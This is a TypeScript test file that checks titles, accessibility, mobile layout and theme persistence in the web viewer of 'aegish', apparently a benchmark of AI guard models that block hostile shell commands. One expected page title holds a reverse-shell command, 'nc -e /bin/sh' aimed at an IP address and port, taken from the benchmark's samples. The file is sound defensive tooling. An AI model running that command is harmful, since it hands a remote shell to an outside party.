import { describe, expect, it } from 'vitest'
import type { SampleColumns } from '../src/view/api.ts'
import { storyViewer } from './viewer-story.ts'
import { violationsIn } from './viewer-window.ts'

const story = storyViewer()

describe('on every page', () => {
  it('the tab has a title of its own', async () => {
    const page = await story.open('samples?q=nc+-e')
    await page.locator('.sample-command a').click()
    await expect
      .poll(() => page.title())
      .toBe('nc -e /bin/sh 192.0.2.7 9001 · Reverse Shell with nc · aegish')
    for (const [path, title] of [
      ['', 'Leaderboard · aegish'],
      ['?suite=hostile', 'Leaderboard · hostile · aegish'],
      ['heat-map?by=technique', 'Heat map · technique · aegish'],
      ['charts?chart=ranking', 'Charts · ranking · aegish'],
      ['samples?q=nc+-e&category=reverse-shell', 'Samples · nc -e, reverse-shell · aegish'],
      ['runs', 'Runs · aegish'],
      ['decisions?verdict=BLOCK', 'Decisions · BLOCK · aegish'],
      ['guard?of=openai/gpt-5-mini', 'gpt-5-mini · aegish'],
      ['compare?a=ollama/shaky&b=openai/gpt-5-mini', 'Compare · shaky → gpt-5-mini · aegish'],
    ] as const) {
      await page.goto(story.url + path)
      await expect.poll(() => page.title()).toBe(title)
    }
  })

  const pages = [
    '',
    'heat-map',
    'charts?chart=cost-vs-score',
    'samples',
    'compare',
    'runs',
    'decisions',
    'guard?of=ollama/shaky',
    'sample',
  ]

  async function sampleKey(): Promise<string> {
    const { key } = await story.ask<SampleColumns>('samples')
    return `?key=${encodeURIComponent(key[2]!)}`
  }

  // The second theme has the same elements: only its colours are another question.
  it.each([
    { colorScheme: 'light' as const, rules: undefined },
    { colorScheme: 'dark' as const, rules: ['color-contrast'] },
  ])('axe finds nothing, $colorScheme', async ({ colorScheme, rules }) => {
    const key = await sampleKey()
    // The page's policy lets no foreign script in; only here it is lifted, for axe.
    const page = await story.open('', { colorScheme, bypassCSP: true })
    for (const path of pages) {
      await page.goto(story.url + (path === 'sample' ? path + key : path))
      await page.waitForSelector('.panel, .samples, .empty')
      const violations = await violationsIn(page, rules)
      expect({ path, violations }).toEqual({ path, violations: [] })
    }
  })

  it('nothing overflows a screen of 360 pixels', async () => {
    const key = await sampleKey()
    const page = await story.open('', { viewport: { width: 360, height: 740 } })
    for (const path of pages) {
      await page.goto(story.url + (path === 'sample' ? path + key : path))
      await page.waitForSelector('.panel, .samples, .empty')
      const widths = await page.evaluate(() => ({
        content: document.documentElement.scrollWidth,
        screen: document.documentElement.clientWidth,
      }))
      expect({ path, ...widths }).toEqual({ path, content: 360, screen: 360 })
      expect(
        await page.locator('.tabs-top').getByRole('link', { name: 'Samples' }).isVisible(),
      ).toBe(true)
    }
  })

  it('a menu breaks no name that fits, and stays in view on a phone', async () => {
    const page = await story.open('', { viewport: { width: 390, height: 844 } })
    await page.locator('summary', { hasText: 'Guards' }).click()
    const panel = (await page.locator('.menu-panel').boundingBox())!
    expect(panel.x).toBeGreaterThanOrEqual(0)
    expect(panel.x + panel.width).toBeLessThanOrEqual(390)
    const broken = await page
      .locator('.choices label span:nth-child(2)')
      .evaluateAll((names) =>
        names.filter((name) => name.getClientRects()[0]!.height > 30).map((name) => name.innerHTML),
      )
    // Only the name of an earlier run is longer than a phone is wide.
    expect(broken).toEqual(['claude-haiku-4-5 · 2026-10-15 08:00'])
  })

  it('the theme is chosen once and kept', async () => {
    const page = await story.open('', { colorScheme: 'light' })
    const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor)
    const light = await background()
    await page.getByRole('button', { name: /Change to light/ }).click()
    await page.getByRole('button', { name: /Change to dark/ }).click()
    const dark = await background()
    expect(dark).not.toBe(light)
    await page.reload()
    await page.waitForSelector('h1')
    expect(await background()).toBe(dark)
  })
})
